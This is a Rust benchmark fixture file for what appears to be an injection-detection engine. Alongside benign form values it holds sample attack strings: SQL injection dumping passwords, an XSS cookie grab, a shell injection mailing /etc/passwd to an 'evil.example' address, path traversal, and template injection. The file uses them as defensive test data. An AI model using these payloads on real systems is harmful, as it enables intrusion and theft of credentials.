//! Inputs that the benches share, each with the answer it must get: a bench checks the answer before it takes the time.

pub mod scale;

use abatis::Request;

/// A value as most are.
pub const NAME: &[u8] = b"Anna Schmidt-Weber";

/// One paragraph as people write them.
pub const PROSE: &[u8] = b"Thanks for the quick reply! We'd like to move the meeting to 10:30 (room 4, 2nd floor); is that OK for you & the team?";

/// A plain attack.
pub const ATTACK: &[u8] = b"1' union select null,concat(login,0x3a,password) from users-- -";

/// Other values of forms, and 80 bytes of prose.
pub const BENIGN: [(&str, &[u8]); 6] = [
    ("e-mail", b"anna.schmidt@mail.example"),
    ("id", b"8f14e45f-ceea-467a-9a36-dedd4bea2543"),
    ("number", b"1763712000"),
    ("search", b"oak table 120 cm"),
    ("address", b"12 St. Mary's Road, Dublin 4"),
    (
        "prose-80",
        b"Please leave the parcel with the neighbours at no. 12, they're home all evening.",
    ),
];

/// Other plain attacks.
pub const ATTACKS: [(&str, &[u8]); 4] = [
    ("attack-html", b"\"><img src=x onerror=alert(document.cookie)>"),
    ("attack-shell", b"127.0.0.1; cat /etc/passwd | mail me@evil.example"),
    ("attack-path", b"../../../../etc/passwd"),
    ("attack-template", b"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
];

/// The languages that the engine reads.
pub const LANGUAGES: [&str; 8] =
    ["sql", "shell", "html", "script", "path", "url", "code", "template"];

/// A JSON body of about 1 KB, like those that shops send.
pub const ORDER: &[u8] = include_bytes!("order.json");

/// A browser's GET: 3 arguments, 14 headers, 1 KB of cookies.
pub fn browser_get() -> Request<'static> {
    Request::new("GET", "/catalogue/garden?page=2&sort=price-asc&q=oak+table+%26+chairs")
        .header("Host", "shop.example")
        .header("Connection", "keep-alive")
        .header("sec-ch-ua", r#""Chromium";v="142", "Google Chrome";v="142", "Not_A Brand";v="99""#)
        .header("sec-ch-ua-mobile", "?0")
        .header("sec-ch-ua-platform", r#""Linux""#)
        .header("Upgrade-Insecure-Requests", "1")
        .header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        )
        .header(
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8",
        )
        .header("Sec-Fetch-Site", "same-origin")
        .header("Sec-Fetch-Mode", "navigate")
        .header("Referer", "https://shop.example/catalogue/garden?page=1&sort=price-asc")
        .header("Accept-Encoding", "gzip, deflate, br, zstd")
        .header("Accept-Language", "en-GB,en;q=0.9,de;q=0.8")
        .header("Cookie", include_str!("cookies.txt").trim_ascii_end())
}

/// The 1 KB JSON body as a request.
pub fn order_post() -> Request<'static> {
    Request::new("POST", "/api/orders")
        .header("Host", "shop.example")
        .header("Content-Type", "application/json")
        .header("Content-Length", "1023")
        .body(ORDER)
}
